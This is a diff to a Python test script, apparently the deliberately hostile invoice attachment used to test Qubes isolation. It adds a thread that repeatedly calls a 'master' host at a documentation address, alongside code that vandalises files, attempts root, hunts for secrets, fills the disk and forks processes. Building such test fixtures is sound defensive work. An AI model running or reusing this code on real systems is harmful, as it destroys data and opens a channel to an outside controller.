@@ -1,19 +1,25 @@
 #!/usr/bin/env python3
 # The hostile attachment of the e-mail scenario. It really does what it says, to the machine it is opened on: DO NOT RUN
 # IT OUTSIDE A DISPOSABLE QUBE. It looks like an invoice, then it writes to home, /etc and /usr, plants a service, looks
-# for other qubes' data and for a network, asks other qubes to run commands, forks processes and fills the disk.
+# for other qubes' data, calls its master, asks other qubes to run commands, forks processes and fills the disk.
 
 import contextlib
+import errno
 import hashlib
 import os
 import socket
 import subprocess
 import sys
+import threading
 import time
 
 MARK = hashlib.sha256(b"cloison e-mail scenario").hexdigest().encode()  # what is searched for on the host afterwards
 FILL_BYTES = 64 << 20
 CHILDREN = 50
+MASTER = ("192.0.2.1", 443)  # an address that documentation may use
+CARD_LIMIT_S = 20
+"""A network card may come moments after the start of a qube: who is hostile has time."""
+CALLS_HOME = 5
 
 
 def report(what, result):
@@ -72,15 +78,36 @@ def look_for_others():
     report("mail and secrets in reach", " ".join(letters) or "none found")
 
 
-def look_for_network():
-    links = [name for name in os.listdir("/sys/class/net") if name != "lo"]
-    report("network interfaces", " ".join(links) or "none found")
+class CallingHome(threading.Thread):
+    """Calls its master beside all else, once a second, as soon as there is a network to call through."""
 
-    def call_home():
-        with socket.create_connection(("192.0.2.1", 443), timeout=2):  # an address that documentation may use
-            return "done"
+    def __init__(self):
+        super().__init__(daemon=True)
+        self.outcome = ""
 
-    report("call home", tried(call_home))
+    def run(self):
+        deadline, refused = time.monotonic() + CARD_LIMIT_S, 0
+        while refused < CALLS_HOME:
+            try:
+                with socket.create_connection(MASTER, timeout=2):
+                    self.outcome = "done"
+                    return
+            except OSError as error:
+                if error.errno == errno.ENETUNREACH:
+                    self.outcome = f"failed ({error.strerror})"
+                    if time.monotonic() > deadline:
+                        return
+                    time.sleep(0.2)
+                    continue
+                refused += 1
+                self.outcome = f"failed ({error.strerror or error}, {refused} times)"
+            time.sleep(1)
+
+    def report(self):
+        self.join()
+        links = [name for name in os.listdir("/sys/class/net") if name != "lo"]
+        report("network interfaces", " ".join(links) or "none found")
+        report("call home", self.outcome)
 
 
 def ask_other_qubes():
@@ -128,13 +155,15 @@ def main():
         return
     print("INVOICE 2291\n\n  4 pallets of terracotta pots    4,812.00 EUR\n  payable within 14 days\n", flush=True)
     report("host name", socket.gethostname())
+    calling = CallingHome()
+    calling.start()
     vandalise_home()
     if subprocess.run(["sudo", "-n", sys.executable, os.path.abspath(__file__), "--as-root"]).returncode != 0:
         vandalise_system()
     look_for_others()
-    look_for_network()
     ask_other_qubes()
     fill_disk()
+    calling.report()
     fork_processes()
 
 
